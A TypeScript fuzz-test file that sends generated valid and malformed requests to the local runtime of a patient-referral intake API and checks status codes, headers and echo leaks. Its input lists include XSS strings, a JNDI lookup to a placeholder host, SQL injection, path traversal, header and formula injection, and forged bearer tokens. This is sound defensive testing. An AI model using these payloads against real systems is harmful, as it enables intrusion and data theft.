import { randomBytes } from 'node:crypto';
import { Agent, request, type IncomingHttpHeaders } from 'node:http';
import { isDeepStrictEqual } from 'node:util';
import { gzipSync } from 'node:zlib';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { DynamoDBDocumentClient, ScanCommand } from '@aws-sdk/lib-dynamodb';
import fc from 'fast-check';
import { functions } from '../../functions/catalog';
import { MAX_BODY_BYTES } from '../../functions/lib/http';
import { IDEMPOTENCY_KEY_PATTERN } from '../../functions/lib/schemas/common';
import {
  DETOX_STATUSES,
  INSURANCE_TYPES,
  IntakeSchema,
  LANGUAGES,
  SCHEDULE_PREFERENCES,
  SUBSTANCES,
  type Intake,
} from '../../functions/lib/schemas/intake';
import { MAX_REQUEST_BYTES } from '../../local/gateway/api-event';
import type { Runtime } from '../../local/runtime';

// Fuzzing the public edge (issue 12, item 1) over HTTP against the local runtime: generated valid
// intakes and mutations of them, raw garbage bodies and headers, odd content types and methods, the
// other public routes, the issuer's sign-in, static paths and staff routes without a real token.
//
// What every case must show, checked as it runs:
// - never a 5xx;
// - the status the contract (docs/ARCHITECTURE.md §3) gives for what was sent: 413 over the size limits, 415 when
//   not application/json, 400 for JSON that does not parse or fails the intake schema (the schema
//   module the handler uses is the oracle), 201 otherwise; 405/404/401 on the other routes;
// - every API answer is `cache-control: no-store`, JSON, `{ error, message, fields? }` on a 4xx;
// - nothing submitted comes back: each case carries a fresh nonce in its free text, names, ids and
//   headers, and no answer (body or header) holds it, nor any other submitted string of 8+ characters.
// And once at the end (verifyStorage): every 201 stored its intake exactly once, equal to what the
// schema made of the body, with one execution; no rejected case left its nonce anywhere in the table.

/** the instant the application clock is pinned to while fuzzing: generated dates are relative to it */
export const PINNED_NOW = '2026-11-25T15:00:00.000Z';
const PINNED_MS = Date.parse(PINNED_NOW);
const DAY_MS = 86_400_000;

/** 12 characters in every generated body and header where a nonce goes; replaced per request */
const PLACEHOLDER = 'QzPLACEHOLDR';
const NONCE_RE = /qz[a-z0-9]{10}/gi;
const newNonce = (): string =>
  `Qz${randomBytes(10)
    .toString('hex')
    .replace(/[^a-z0-9]/g, '')
    .slice(0, 10)
    .padEnd(10, '0')}`;

const ENUMS = new Set<string>([...SUBSTANCES, ...DETOX_STATUSES, ...INSURANCE_TYPES, ...LANGUAGES, ...SCHEDULE_PREFERENCES]);

// ---- building blocks -----------------------------------------------------------------------------

const day = (ms: number) => new Date(ms).toISOString().slice(0, 10);
/** days between 1900-01-02 and the pinned day */
const DAYS_SINCE_1900 = Math.floor((PINNED_MS - Date.parse('1900-01-02T00:00:00Z')) / DAY_MS);

/** text a person might type, and text an attacker would: unicode, RTL, emoji, markup, CR/LF, NUL, lone surrogates */
const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '\r\nBcc: victim@example.org\r\n',
  'a\nb\rc\td',
  '\u202Eevil\u202C',
  'שלום עולם',
  'مرحبا بالعالم',
  '😀👩‍👩‍👧‍👦🏳️‍🌈',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ',
  '\u0000',
  '\ufeff',
  '\u200b\u200d',
  "Robert'); DROP TABLE referrals;--",
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '%s%n%x',
  '../../etc/passwd',
  'null',
  'undefined',
  '\\u0000',
  "O'Brien-Núñez",
  '李小龍',
  'Ωμέγα',
  'ﷺ',
  '\ud800',
  'x\udfffy',
  '𝕳𝖊𝖑𝖑𝖔',
  'ǅ',
  'İstanbul',
  '\u00a0',
  '=cmd|calc!A1',
  '</textarea><svg onload=alert(1)>',
  'javascript:alert(1)',
  '\u2028\u2029',
  '\x1b[31mred',
  '#{constructor}',
  '__proto__',
];
const hostile = fc.constantFrom(...HOSTILE);
const someText = (maxLength: number): fc.Arbitrary<string> =>
  fc.oneof(
    { arbitrary: fc.string({ maxLength }), weight: 3 },
    { arbitrary: fc.string({ unit: 'grapheme', maxLength }), weight: 3 },
    { arbitrary: fc.string({ unit: 'binary', maxLength }), weight: 1 },
    { arbitrary: hostile, weight: 3 },
    { arbitrary: fc.array(hostile, { maxLength: 4 }).map((a) => a.join(' ')), weight: 1 },
  );
/**
 * a free-text field with the nonce inside, mostly within `max` (the schema decides). Lone surrogates
 * become U+FFFD here (the edge refuses them, so a "valid" body keeps mostly valid text); mutations
 * still bring them in.
 */
const markedText = (max: number): fc.Arbitrary<string> =>
  fc
    .tuple(
      someText(Math.max(0, Math.floor((max - PLACEHOLDER.length) / 2))),
      someText(Math.max(0, Math.floor((max - PLACEHOLDER.length) / 2))),
    )
    .map(([a, b]) => `${a}${PLACEHOLDER}${b}`.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd'));

const digits = (n: number) => fc.array(fc.integer({ min: 0, max: 9 }), { minLength: n, maxLength: n }).map((d) => d.join(''));

/** a valid NPI: nine digits and the Luhn check digit over 80840 + them */
const npi = digits(9).map((nine) => {
  const all = `80840${nine}`;
  let sum = 0;
  for (let i = 0; i < all.length; i++) {
    let d = Number(all[all.length - 1 - i]);
    if (i % 2 === 0) {
      d *= 2;
      if (d > 9) d -= 9;
    }
    sum += d;
  }
  return `${nine}${(10 - (sum % 10)) % 10}`;
});

const phone = fc.oneof(
  fc.tuple(digits(3), digits(3), digits(4)).map(([a, b, c]) => `(${a}) ${b}-${c}`),
  fc.tuple(digits(3), digits(3), digits(4)).map(([a, b, c]) => `+1 ${a} ${b} ${c}`),
  digits(10).map((d) => d.replace(/(\d{3})(\d{3})(\d{4})/, '$1.$2.$3')),
  fc
    .integer({ min: 10, max: 15 })
    .chain((n) => digits(n))
    .map((d) => `+${d}`),
);
const email = fc
  .tuple(fc.constantFrom('pt', 'alex', 'a.b', 'x_y'), fc.constantFrom('example.org', 'mail.example.com', 'example.net'))
  .map(([local, domain]) => `${local}.${PLACEHOLDER.toLowerCase()}@${domain}`);
const memberId = fc
  .tuple(fc.constantFrom('M', 'INACTIVE-', 'REVIEW-', 'X9-'), fc.stringMatching(/^[A-Za-z0-9]{0,18}$/))
  .map(([p, s]) => `${p}${PLACEHOLDER}${s}`);

/** a body the intake schema should accept (the schema has the last word: see `oracle`) */
export const validIntake: fc.Arbitrary<Record<string, unknown>> = fc
  .record({
    dobAgo: fc.integer({ min: 1, max: DAYS_SINCE_1900 }),
    lastUseFraction: fc.array(fc.double({ min: 0, max: 1, noNaN: true }), { minLength: 1, maxLength: SUBSTANCES.length }),
    substances: fc.uniqueArray(fc.constantFrom(...SUBSTANCES), { minLength: 1, maxLength: SUBSTANCES.length }),
    firstName: markedText(100),
    lastName: markedText(100),
    phone,
    email: fc.option(email, { nil: undefined }),
    preferredLanguage: fc.constantFrom(...LANGUAGES),
    postalCode: fc.option(
      fc.oneof(
        digits(5),
        fc.tuple(digits(5), digits(4)).map(([a, b]) => `${a}-${b}`),
      ),
      { nil: undefined },
    ),
    currentSymptoms: fc.boolean(),
    detoxStatus: fc.constantFrom(...DETOX_STATUSES),
    detoxDaysAgo: fc.option(fc.integer({ min: 0, max: 400 }), { nil: undefined }),
    selfHarm: fc.boolean(),
    attempt: fc.boolean(),
    coOccurring: fc.option(fc.array(markedText(100), { maxLength: 20 }), { nil: undefined }),
    insuranceType: fc.constantFrom(...INSURANCE_TYPES),
    payer: fc.option(markedText(100), { nil: undefined }),
    memberId: fc.option(memberId, { nil: undefined }),
    groupNumber: fc.option(fc.stringMatching(/^[A-Za-z0-9-]{1,40}$/), { nil: undefined }),
    share: fc.boolean(),
    physician: fc.option(fc.record({ name: markedText(120), npi, email, practice: fc.option(markedText(120), { nil: undefined }) }), {
      nil: undefined,
    }),
    signature: markedText(200),
    signedAgoMs: fc.integer({ min: 0, max: 5 * 365 * DAY_MS }),
    signedOffset: fc.constantFrom('Z', '+00:00', '-05:00', '+05:30'),
    schedulePreference: fc.constantFrom(...SCHEDULE_PREFERENCES),
    notes: fc.option(
      fc.oneof(
        markedText(2000),
        fc.string({ unit: 'grapheme', minLength: 1500, maxLength: 1900 }).map((s) => `${PLACEHOLDER}${s}`),
      ),
      { nil: undefined },
    ),
  })
  .map((g) => {
    const dobMs = PINNED_MS - g.dobAgo * DAY_MS;
    const signedMs = PINNED_MS - g.signedAgoMs;
    const signedAt =
      g.signedOffset === 'Z' || g.signedOffset === '+00:00'
        ? new Date(signedMs).toISOString().replace('Z', g.signedOffset)
        : isoWithOffset(signedMs, g.signedOffset);
    const physician =
      g.physician ??
      (g.share ? { name: `Dr ${PLACEHOLDER}`, npi: '1234567893', email: `dr.${PLACEHOLDER.toLowerCase()}@clinic.example.org` } : undefined);
    return stripUndefined({
      patient: {
        firstName: g.firstName,
        lastName: g.lastName,
        dateOfBirth: day(dobMs),
        phone: g.phone,
        email: g.email,
        preferredLanguage: g.preferredLanguage,
        postalCode: g.postalCode,
      },
      substances: g.substances.map((substance, i) => ({
        substance,
        lastUse: g.lastUseFraction[i] === undefined ? undefined : day(dobMs + Math.floor((PINNED_MS - dobMs) * g.lastUseFraction[i]!)),
      })),
      withdrawal: {
        currentSymptoms: g.currentSymptoms,
        detoxStatus: g.detoxStatus,
        detoxCompletedOn:
          g.detoxStatus === 'completed' && g.detoxDaysAgo !== undefined ? day(PINNED_MS - g.detoxDaysAgo * DAY_MS) : undefined,
      },
      screening: { selfHarmThoughtsPastMonth: g.selfHarm, suicideAttemptPastThreeMonths: g.attempt },
      coOccurring: g.coOccurring,
      insurance: {
        type: g.insuranceType,
        payer: g.payer ?? (g.insuranceType === 'commercial' ? `Acme ${PLACEHOLDER}` : undefined),
        memberId: g.memberId,
        groupNumber: g.groupNumber,
      },
      referringPhysician: physician,
      consent: { shareWithReferrer: g.share, signature: g.signature, signedAt },
      schedulePreference: g.schedulePreference,
      notes: g.notes,
    });
  });

const isoWithOffset = (ms: number, offset: string): string => {
  const sign = offset.startsWith('-') ? -1 : 1;
  const [h, m] = offset.slice(1).split(':').map(Number) as [number, number];
  const local = new Date(ms + sign * (h * 60 + m) * 60_000).toISOString().slice(0, 19);
  return `${local}${offset}`;
};

const stripUndefined = <T>(v: T): T => JSON.parse(JSON.stringify(v)) as T;

/** a plain valid intake on the pinned clock (support/fixtures dates are relative to the real one) */
export const pinnedIntake = (lastName = 'Rivera'): Record<string, unknown> => ({
  patient: {
    firstName: 'Alex',
    lastName,
    dateOfBirth: '1990-04-12',
    phone: '(555) 123-4567',
    email: 'alex@example.org',
    preferredLanguage: 'en',
  },
  substances: [{ substance: 'alcohol', lastUse: day(PINNED_MS - 2 * DAY_MS) }],
  withdrawal: { currentSymptoms: false, detoxStatus: 'not-needed' },
  screening: { selfHarmThoughtsPastMonth: false, suicideAttemptPastThreeMonths: false },
  insurance: { type: 'commercial', payer: 'Acme Health', memberId: 'M1234567' },
  consent: { shareWithReferrer: false, signature: 'Alex Rivera', signedAt: new Date(PINNED_MS - 60_000).toISOString() },
  schedulePreference: 'evening',
});

// ---- mutations -----------------------------------------------------------------------------------

/** every path (array of keys) to a value inside `v` */
const pathsOf = (v: unknown, prefix: Array<string | number> = []): Array<Array<string | number>> => {
  if (v === null || typeof v !== 'object') return [prefix];
  const entries = Array.isArray(v) ? v.map((x, i) => [i, x] as const) : Object.entries(v);
  return [prefix, ...entries.flatMap(([k, x]) => pathsOf(x, [...prefix, k]))];
};

const setPath = (root: unknown, path: Array<string | number>, value: unknown, mode: 'set' | 'delete'): unknown => {
  if (path.length === 0) return mode === 'delete' ? undefined : value;
  const copy = structuredClone(root) as Record<string | number, unknown>;
  let node = copy as Record<string | number, unknown>;
  for (const k of path.slice(0, -1)) node = node[k] as Record<string | number, unknown>;
  const last = path[path.length - 1]!;
  if (mode === 'delete') {
    if (Array.isArray(node)) node.splice(Number(last), 1);
    else delete node[last];
  } else {
    // an own property even for "__proto__", so JSON.stringify writes it
    Object.defineProperty(node, last, { value, enumerable: true, writable: true, configurable: true });
  }
  return copy;
};

const nested = (depth: number, kind: 'array' | 'object'): string =>
  kind === 'array' ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constant([]),
  fc.constant({}),
  fc.string(),
  hostile,
  fc.jsonValue({ maxDepth: 3 }),
  fc.integer({ min: 101, max: 40_000 }).map((n) => `${PLACEHOLDER}${'x'.repeat(n)}`),
  fc.constantFrom(
    'true',
    'false',
    '1',
    '2026-02-30',
    '2026-13-01',
    '1899-12-31',
    '9999-12-31',
    '2026-11-25T15:00:00',
    'alcohol\u200b',
    'ALCOHOL',
    ' en',
    'es\n',
  ),
  fc.constant(1e308),
  fc.constant(-0),
  fc.constant(Number.MAX_SAFE_INTEGER + 2),
);
const EXTRA_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '$where',
  '$gt',
  'pk',
  'sk',
  'entity',
  'referralId',
  'status',
  'urgent',
  'channel',
  'actor',
  'version',
  '',
];

type Mutation =
  | { op: 'delete'; pick: number }
  | { op: 'set'; pick: number; value: unknown }
  | { op: 'extra'; pick: number; key: string; value: unknown }
  | { op: 'deep'; pick: number; depth: number; kind: 'array' | 'object' };

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ op: fc.constant('delete' as const), pick: fc.nat() }),
  fc.record({ op: fc.constant('set' as const), pick: fc.nat(), value: wrongValue }),
  fc.record({
    op: fc.constant('extra' as const),
    pick: fc.nat(),
    key: fc.oneof(fc.constantFrom(...EXTRA_KEYS), fc.string({ maxLength: 20 })),
    value: fc.oneof(fc.jsonValue({ maxDepth: 2 }), hostile, fc.constant(`${PLACEHOLDER}`)),
  }),
  fc.record({
    op: fc.constant('deep' as const),
    pick: fc.nat(),
    depth: fc.integer({ min: 10, max: 6000 }),
    kind: fc.constantFrom('array' as const, 'object' as const),
  }),
);

/** a valid body with 1-3 mutations applied, as JSON text (deep nesting is spliced in as text) */
const mutatedIntake: fc.Arbitrary<string> = fc
  .tuple(validIntake, fc.array(mutation, { minLength: 1, maxLength: 3 }))
  .map(([body, muts]) => {
    let v: unknown = body;
    let deep: string | undefined;
    for (const m of muts) {
      const paths = pathsOf(v);
      const path = paths[m.pick % paths.length]!;
      if (m.op === 'delete') v = setPath(v, path, undefined, 'delete');
      else if (m.op === 'set') v = setPath(v, path, m.value, 'set');
      else if (m.op === 'extra') {
        const objects = paths.filter((p) => {
          const x = get(v, p);
          return x !== null && typeof x === 'object' && !Array.isArray(x);
        });
        const target = objects.length ? objects[m.pick % objects.length]! : [];
        if (target.length || (v !== null && typeof v === 'object' && !Array.isArray(v))) v = setPath(v, [...target, m.key], m.value, 'set');
      } else {
        deep = nested(m.depth, m.kind);
        v = setPath(v, path, '\u0000DEEP\u0000', 'set');
      }
    }
    const text = v === undefined ? '' : JSON.stringify(v);
    return deep ? text.replace('"\\u0000DEEP\\u0000"', deep) : text;
  });

const get = (root: unknown, path: Array<string | number>): unknown =>
  path.reduce<unknown>((node, k) => (node as Record<string | number, unknown> | undefined)?.[k], root);

// ---- raw bodies, content types, headers ----------------------------------------------------------

export interface EdgeCase {
  kind: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  /** text, with PLACEHOLDER where the nonce goes, and how it is turned into bytes */
  body?: { text: string; encoding: 'utf8' | 'utf16le' | 'utf16be' | 'gzip' | 'bytes'; bytes?: Uint8Array; append?: Uint8Array };
}

const CONTENT_TYPES = [
  'application/json',
  'application/json',
  'application/json',
  'application/json; charset=utf-8',
  'Application/JSON',
  'application/json;charset=UTF-8',
  ' application/json ',
  'application/json; charset=utf-16',
  'application/json; charset=iso-8859-1',
  'application/json; boundary=x',
  'text/plain',
  'text/json',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----x',
  'application/xml',
  'application/json-patch+json',
  'application/vnd.api+json',
  'application/jsonx',
  'json',
  '*/*',
  'application/octet-stream',
  '',
];

/** header values a client can send (visible ASCII and spaces; no CR/LF: clients refuse those) */
const headerValue = fc
  .oneof(
    fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)), maxLength: 200 }),
    fc.constantFrom('', ' ', 'null', '\t', `${PLACEHOLDER}`, `<script>${PLACEHOLDER}</script>`, 'x'.repeat(1000)),
  )
  .map((s) => s.trim());
const headerName = fc
  .stringMatching(/^[a-z][a-z0-9-]{0,30}$/)
  .filter(
    (n) =>
      ![
        'host',
        'content-length',
        'transfer-encoding',
        'connection',
        'content-type',
        'expect',
        'upgrade',
        'keep-alive',
        'te',
        'trailer',
      ].includes(n),
  );
const extraHeaders = fc.dictionary(headerName, headerValue, { maxKeys: 4 });

const idempotencyKey = fc.oneof(
  { arbitrary: fc.constant(`fz-${PLACEHOLDER}`), weight: 6 },
  { arbitrary: fc.constant(undefined), weight: 3 },
  {
    arbitrary: fc.constantFrom(`${PLACEHOLDER} x`, `k${PLACEHOLDER}${'y'.repeat(130)}`, 'short', `${PLACEHOLDER}<>`, `${PLACEHOLDER};drop`),
    weight: 1,
  },
);

const jsonHeaders = (contentType: fc.Arbitrary<string | undefined>) =>
  fc.record({ contentType, key: idempotencyKey, extra: extraHeaders }).map(({ contentType: ct, key, extra }) => ({
    ...extra,
    ...(ct !== undefined ? { 'content-type': ct } : {}),
    ...(key !== undefined ? { 'idempotency-key': key } : {}),
  }));

const intakeCase = (
  kind: string,
  text: fc.Arbitrary<string>,
  contentType: fc.Arbitrary<string | undefined> = fc.constant('application/json'),
): fc.Arbitrary<EdgeCase> =>
  fc
    .tuple(text, jsonHeaders(contentType))
    .map(([t, headers]) => ({ kind, method: 'POST', path: '/api/referrals', headers, body: { text: t, encoding: 'utf8' as const } }));

const garbageBytes = fc.oneof(
  fc.uint8Array({ maxLength: 3000 }),
  fc.constant(new Uint8Array([0xef, 0xbb, 0xbf, 0x7b, 0x7d])), // a BOM, then {}
  fc.constant(new Uint8Array([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00])),
  fc.constant(new Uint8Array([0xc0, 0xaf, 0xed, 0xa0, 0x80])), // overlong and surrogate UTF-8
);

export const intakeCases: fc.Arbitrary<EdgeCase> = fc.oneof(
  {
    arbitrary: intakeCase(
      'valid',
      validIntake.map((b) => JSON.stringify(b)),
    ),
    weight: 30,
  },
  {
    arbitrary: intakeCase(
      'valid, odd content type',
      validIntake.map((b) => JSON.stringify(b)),
      fc.oneof(fc.constantFrom(...CONTENT_TYPES), fc.constant(undefined), headerValue),
    ),
    weight: 6,
  },
  { arbitrary: intakeCase('mutated', mutatedIntake), weight: 35 },
  {
    arbitrary: intakeCase(
      'valid with extra top-level keys (raw JSON)',
      fc
        .tuple(validIntake, fc.constantFrom(...EXTRA_KEYS))
        .map(([b, k]) => `{${JSON.stringify(k)}:{"polluted":"${PLACEHOLDER}"},${JSON.stringify(b).slice(1)}`),
    ),
    weight: 4,
  },
  {
    arbitrary: intakeCase(
      'duplicate keys',
      validIntake.map((b) => `{"patient":{"firstName":1},${JSON.stringify(b).slice(1, -1)},"schedulePreference":"${PLACEHOLDER}"}`),
    ),
    weight: 2,
  },
  {
    arbitrary: intakeCase(
      'random JSON',
      fc.jsonValue({ maxDepth: 4 }).map((j) => JSON.stringify(j) ?? 'null'),
    ),
    weight: 5,
  },
  {
    arbitrary: intakeCase(
      'truncated JSON',
      fc.tuple(validIntake, fc.double({ min: 0, max: 1, noNaN: true })).map(([b, f]) => {
        const t = JSON.stringify(b);
        return t.slice(0, Math.floor(t.length * f));
      }),
    ),
    weight: 3,
  },
  {
    arbitrary: intakeCase(
      'JSON and trailing garbage',
      fc
        .tuple(validIntake, fc.constantFrom(' {}', '\u0000', 'x', ',', '}', ' // c', '\n\n{"a":1}'))
        .map(([b, tail]) => `${JSON.stringify(b)}${tail}`),
    ),
    weight: 2,
  },
  { arbitrary: intakeCase('garbage text', someText(3000)), weight: 3 },
  {
    arbitrary: fc.tuple(garbageBytes, jsonHeaders(fc.constantFrom(...CONTENT_TYPES))).map(([bytes, headers]) => ({
      kind: 'garbage bytes',
      method: 'POST',
      path: '/api/referrals',
      headers,
      body: { text: '', encoding: 'bytes' as const, bytes },
    })),
    weight: 3,
  },
  {
    arbitrary: fc
      .tuple(
        validIntake,
        fc.constantFrom('utf16le' as const, 'utf16be' as const),
        fc.boolean(),
        jsonHeaders(fc.constantFrom('application/json; charset=utf-16', 'application/json; charset=UTF-16LE', 'application/json')),
      )
      .map(([b, encoding, bom, headers]) => ({
        kind: 'UTF-16 body',
        method: 'POST',
        path: '/api/referrals',
        headers,
        body: { text: `${bom ? '\ufeff' : ''}${JSON.stringify(b)}`, encoding },
      })),
    weight: 4,
  },
  {
    arbitrary: fc.tuple(validIntake, jsonHeaders(fc.constant('application/json'))).map(([b, headers]) => ({
      kind: 'gzip body',
      method: 'POST',
      path: '/api/referrals',
      headers: { ...headers, 'content-encoding': 'gzip' },
      body: { text: JSON.stringify(b), encoding: 'gzip' as const },
    })),
    weight: 1,
  },
  {
    arbitrary: fc
      .tuple(fc.integer({ min: MAX_BODY_BYTES - 200, max: MAX_BODY_BYTES + 200 }), jsonHeaders(fc.constant('application/json')))
      .map(([size, headers]) => ({
        kind: 'near the handler limit',
        method: 'POST',
        path: '/api/referrals',
        headers,
        body: { text: JSON.stringify({ notes: `${PLACEHOLDER}${'n'.repeat(Math.max(0, size - 30))}` }), encoding: 'utf8' as const },
      })),
    weight: 1,
  },
  {
    arbitrary: jsonHeaders(fc.constant('application/json')).map((headers) => ({
      kind: 'over the gateway limit',
      method: 'POST',
      path: '/api/referrals',
      headers,
      body: { text: `{"notes":"${PLACEHOLDER}`, encoding: 'utf8' as const, append: new Uint8Array(MAX_REQUEST_BYTES + 10).fill(0x61) },
    })),
    weight: 1,
  },
);

// ---- the other public routes and the rest of the edge --------------------------------------------

const publicGetRoutes = functions.flatMap((f) =>
  (f.routes ?? []).filter((r) => r.access === 'public' && r.method === 'GET').map((r) => r.path),
);
/**
 * the one exception to no-store (functions/lib/http.ts): the 200 answer of a public GET the catalog
 * marks `publicCacheSeconds` (no PHI) may be cached
 */
const CACHEABLE = new Map(
  functions.flatMap((f) =>
    (f.routes ?? [])
      .filter((r) => r.access === 'public' && r.method === 'GET' && (r as { publicCacheSeconds?: number }).publicCacheSeconds !== undefined)
      .map((r) => [r.path, `public, max-age=${(r as { publicCacheSeconds?: number }).publicCacheSeconds}`] as const),
  ),
);

/** first segments after /api of the real routes: a generated path starting with one may match a route */
const ROUTE_HEADS = new Set(functions.flatMap((f) => (f.routes ?? []).map((r) => r.path.split('/')[2] ?? '')));
const staffPaths = functions.flatMap((f) =>
  (f.routes ?? []).filter((r) => r.access !== 'public').map((r) => ({ method: r.method, path: r.path })),
);

/** encodeURIComponent, which refuses lone surrogates: those become U+FFFD first */
const uri = (s: string): string =>
  encodeURIComponent(s.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd'));

const queryString = fc
  .array(
    fc.tuple(
      fc.oneof(fc.constantFrom('status', 'q', 'cursor', 'limit', 'from', 'to', 'track', '__proto__', ''), fc.string({ maxLength: 10 })),
      fc.oneof(someText(50), fc.constant(PLACEHOLDER)),
    ),
    { maxLength: 4 },
  )
  .map((pairs) => pairs.map(([k, v]) => `${uri(k)}=${uri(v)}`).join('&'));

const rawSegment = fc.oneof(
  fc.stringMatching(/^[A-Za-z0-9._~-]{1,20}$/),
  someText(20).map(uri),
  fc.constantFrom(
    '..',
    '.',
    '%2e%2e',
    '%2E%2E%2F',
    '%00',
    '%',
    '%zz',
    '%c0%ae',
    'index.html',
    'main.js',
    'main.js.map',
    '..%5c..%5c',
    PLACEHOLDER,
  ),
);
const rawPath = fc.array(rawSegment, { minLength: 1, maxLength: 5 }).map((segs) => `/${segs.join('/')}`);

const jwtShaped = fc
  .tuple(fc.jsonValue({ maxDepth: 2 }), fc.jsonValue({ maxDepth: 2 }), fc.string({ maxLength: 40 }))
  .map(
    ([h, p, s]) =>
      `${Buffer.from(JSON.stringify(h) ?? '').toString('base64url')}.${Buffer.from(JSON.stringify(p) ?? '').toString('base64url')}.${Buffer.from(s).toString('base64url')}`,
  );

export const otherCases: fc.Arbitrary<EdgeCase> = fc.oneof(
  {
    arbitrary: fc
      .tuple(fc.constantFrom(...publicGetRoutes), queryString, extraHeaders)
      .map(([path, q, headers]) => ({ kind: 'public GET', method: 'GET', path: q ? `${path}?${q}` : path, headers })),
    weight: 4,
  },
  {
    arbitrary: fc
      .tuple(fc.constantFrom('GET', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD'), extraHeaders)
      .map(([method, headers]) => ({ kind: 'intake, other method', method, path: '/api/referrals', headers })),
    weight: 2,
  },
  {
    arbitrary: fc
      .tuple(rawPath, fc.constantFrom('GET', 'POST'), extraHeaders)
      .map(([p, method, headers]) => ({ kind: 'unknown /api path', method, path: `/api${p}`, headers })),
    weight: 2,
  },
  {
    arbitrary: fc.tuple(rawPath, extraHeaders).map(([path, headers]) => ({ kind: 'static path', method: 'GET', path, headers })),
    weight: 2,
  },
  {
    arbitrary: fc
      .tuple(
        fc.oneof(
          fc
            .record({
              username: fc.oneof(fc.constantFrom('casey', 'sam', 'pat', 'mallory', ''), markedText(40)),
              password: fc.oneof(markedText(40), fc.constant('')),
            })
            .map((b) => JSON.stringify(b)),
          fc.jsonValue({ maxDepth: 3 }).map((j) => JSON.stringify(j) ?? ''),
          someText(200),
        ),
        extraHeaders,
      )
      .map(([text, headers]) => ({
        kind: 'sign-in',
        method: 'POST',
        path: '/local/auth/login',
        headers: { ...headers, 'content-type': 'application/json' },
        body: { text, encoding: 'utf8' as const },
      })),
    weight: 3,
  },
  {
    arbitrary: fc
      .tuple(
        fc.constantFrom(...staffPaths),
        fc.oneof(
          jwtShaped.map((t) => `Bearer ${t}`),
          headerValue,
          fc.constant(`Bearer ${PLACEHOLDER}`),
        ),
        fc.uuid(),
      )
      .map(([r, authorization, id]) => ({
        kind: 'staff route, forged token',
        method: r.method,
        path: r.path.replace('{id}', id).replace('{step}', 'evaluation'),
        headers: { authorization, ...(r.method === 'POST' ? { 'content-type': 'application/json' } : {}) },
        ...(r.method === 'POST' ? { body: { text: JSON.stringify({ reason: PLACEHOLDER }), encoding: 'utf8' as const } } : {}),
      })),
    weight: 3,
  },
);

/** the mix a run draws from: mostly intakes */
export const edgeCases: fc.Arbitrary<EdgeCase> = fc.oneof({ arbitrary: intakeCases, weight: 4 }, { arbitrary: otherCases, weight: 1 });

// ---- running a case ------------------------------------------------------------------------------

export interface Outcome {
  kind: string;
  nonce: string;
  status: number;
  expected: number[];
  /** the validated intake (what must be stored) when the case is an intake the schema accepts */
  accepted?: Intake;
  referralId?: string;
  replayed: boolean;
  problems: string[];
}

const encode = (body: NonNullable<EdgeCase['body']>, nonce: string): Buffer => {
  const text = body.text.replaceAll(PLACEHOLDER, nonce).replaceAll(PLACEHOLDER.toLowerCase(), nonce.toLowerCase());
  let bytes: Buffer;
  if (body.encoding === 'bytes') bytes = Buffer.from(body.bytes ?? []);
  else if (body.encoding === 'utf16le') bytes = Buffer.from(text, 'utf16le');
  else if (body.encoding === 'utf16be') bytes = Buffer.from(text, 'utf16le').swap16();
  else if (body.encoding === 'gzip') bytes = gzipSync(Buffer.from(text, 'utf8'));
  else bytes = Buffer.from(text, 'utf8');
  return body.append ? Buffer.concat([bytes, body.append]) : bytes;
};

/** the contract's answer to an intake POST, computed the way the edge reads the request */
const oracle = (bytes: Buffer, headers: Record<string, string>): { expected: number[]; accepted?: Intake } => {
  if (bytes.length > MAX_REQUEST_BYTES) return { expected: [413] };
  const raw = bytes.toString('utf8');
  if (Buffer.byteLength(raw, 'utf8') > MAX_BODY_BYTES) return { expected: [413] };
  const type = (headers['content-type'] ?? '').split(';')[0]!.trim().toLowerCase();
  if (type !== 'application/json') return { expected: [415] };
  let parsed: unknown;
  try {
    parsed = JSON.parse(raw);
  } catch {
    return { expected: [400] };
  }
  // text that is not valid Unicode (a lone surrogate, written as a JSON escape) is refused at the edge
  const stack: unknown[] = [parsed];
  while (stack.length) {
    const x = stack.pop();
    if (typeof x === 'string' && /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(x))
      return { expected: [400] };
    if (x && typeof x === 'object') stack.push(...Object.keys(x), ...Object.values(x));
  }
  const result = IntakeSchema.safeParse(parsed);
  if (!result.success) return { expected: [400] };
  const key = headers['idempotency-key'];
  if (key !== undefined && !IDEMPOTENCY_KEY_PATTERN.test(key)) return { expected: [400] };
  return { expected: [201], accepted: result.data };
};

/**
 * every string value of 8+ visible characters in a JSON text — enum values and single plain words
 * aside (zod's own messages name types: "expected string, received undefined"); keys are the
 * schema's field names, which error paths legitimately repeat
 */
const submittedStrings = (text: string): string[] => {
  let v: unknown;
  try {
    v = JSON.parse(text);
  } catch {
    return [];
  }
  // iterative: generated bodies nest thousands of levels deep
  const out: string[] = [];
  const stack: unknown[] = [v];
  while (stack.length) {
    const x = stack.pop();
    if (typeof x === 'string') {
      if (x.trim().length >= 8 && !ENUMS.has(x) && !/^[A-Za-z]+$/.test(x.trim())) out.push(x);
    } else if (x && typeof x === 'object') {
      stack.push(...Object.values(x));
    }
  }
  return out;
};

const STATUS_ERRORS: Record<number, string> = {
  400: 'ValidationError',
  401: 'Unauthorized',
  404: 'NotFound',
  405: 'MethodNotAllowed',
  413: 'PayloadTooLarge',
  415: 'UnsupportedMediaType',
};

interface Answer {
  status: number;
  headers: IncomingHttpHeaders;
  text: string;
}

